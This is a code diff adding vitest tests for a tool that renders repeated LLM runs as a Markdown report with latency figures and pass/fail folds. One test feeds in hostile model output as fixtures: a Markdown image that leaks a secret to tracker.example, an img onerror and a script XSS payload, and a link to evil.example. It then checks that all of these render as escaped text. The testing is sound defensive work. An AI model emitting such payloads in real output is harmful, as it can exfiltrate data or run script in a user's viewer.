@@ -6,6 +6,7 @@
  */
 import { readFileSync } from 'node:fs';
 import { resolve } from 'node:path';
+import MarkdownIt from 'markdown-it';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { checkRun, runCheckPlan } from '../../../src/core/adherence/runChecks';
 import { loadTestSuite } from '../../../src/core/adherence/testCases';
@@ -97,6 +98,44 @@ describe('the run document of Run ×10', () => {
     expect(summary).toMatch(/^- Time per output token \(TPOT\) — how fast the answer streams: p50 [\d.]+ ms\/token/m);
     expect(summary).toMatch(/^- Throughput — output tokens per second over the whole request: p50 [\d.]+ tokens\/s/m);
     expect(summary).not.toMatch(/ttftMs|e2eMs|tpotMs/);
+  });
+
+  it('rendered (the default view): the summary first, each answer folded under one line that says how it went, the figures as real tables (issue 39)', async () => {
+    const { state } = await runTen(withoutRule);
+    const markdown = runDocumentMarkdown(state, 'rendered');
+    // Rendered as VS Code's Markdown preview renders it (markdown-it, HTML and linkify on).
+    const html = new MarkdownIt({ html: true, linkify: true }).render(markdown);
+    const summaries = [...html.matchAll(/<details>\n<summary>(.*?)<\/summary>/g)].map((m) => m[1]!);
+    expect(summaries).toHaveLength(10);
+    summaries.forEach((line, i) => expect(line).toMatch(new RegExp(`^Run ${i + 1} of 10 · (✓ pass|✗ fail) · TTFT [\\d.]+ m?s · E2E [\\d.]+ m?s · \\d+ output tokens`)));
+    expect(html.indexOf('<h2>Summary</h2>')).toBeLessThan(html.indexOf('<details>'));
+    // Inside each fold, the answer is still Markdown: a code block, and the failed assertion a list item.
+    for (const entry of state.entries) expect(html).toContain(`<pre><code class="language-text">${new MarkdownIt().utils.escapeHtml(entry!.answer.trim())}`);
+    const failed = state.entries.filter((e) => e!.check!.status === 'fail');
+    expect((html.match(/<li>✗ not-icontains-any/g) ?? []).length).toBe(failed.length);
+    // The figures as tables, which the preview lays out (as text they were aligned columns).
+    expect(html).toMatch(/<th>metric<\/th>/);
+    expect(html).toMatch(/<td>TTFT<\/td>/);
+  });
+
+  it('rendered: what the server or the model wrote is shown as text, never as an image, link or tag', () => {
+    const record = { ok: false, ttftMs: null, e2eMs: null, outputTokens: null, error: { kind: 'http', message: 'HTTP 500 ![x](https://tracker.example/p.png) <img src=x onerror=alert(1)> [click](https://evil.example)' } };
+    const hostile = '![leak](https://tracker.example/?q=secret)\n<script>alert(1)</script>';
+    const state: RunDocumentState = {
+      promptName: 'p', endpointLabel: 'sim', model: 'm', inputTokensEstimate: 1, unresolved: [], runs: 2, checks: { against: 'the test case' },
+      entries: [
+        { answer: '', reasoning: '', record: record as unknown as RunEntry['record'] },
+        { answer: hostile, reasoning: hostile, record: { ...record, ok: true, error: undefined } as unknown as RunEntry['record'], check: { status: 'fail', failed: [{ label: 'contains <b>', outcome: 'fail', reason: `answer was ${hostile}` }] } as unknown as RunEntry['check'] },
+      ],
+    };
+    const html = new MarkdownIt({ html: true, linkify: true }).render(runDocumentMarkdown(state, 'rendered'));
+    expect(html).not.toMatch(/<img|<a |<script|<b>/);
+    // A single run is not folded, and is shown as text all the same.
+    const single = new MarkdownIt({ html: true, linkify: true }).render(runDocumentMarkdown({ ...state, runs: 1, entries: [state.entries[1]] }, 'rendered'));
+    expect(single).not.toMatch(/<img|<a |<script|<b>|<details>/);
+    expect(single).toContain('<h2>Run 1 of 1 · ✗ fail</h2>');
+    expect(html).toContain('HTTP 500 ![x](https://tracker.example/p.png) &lt;img src=x onerror=alert(1)&gt;');
+    expect(html).toContain('contains &lt;b&gt;: answer was ![leak](https://tracker.example/?q=secret)');
   });
 
   it('a failed request is unscored with its reason, not a failing answer', async () => {
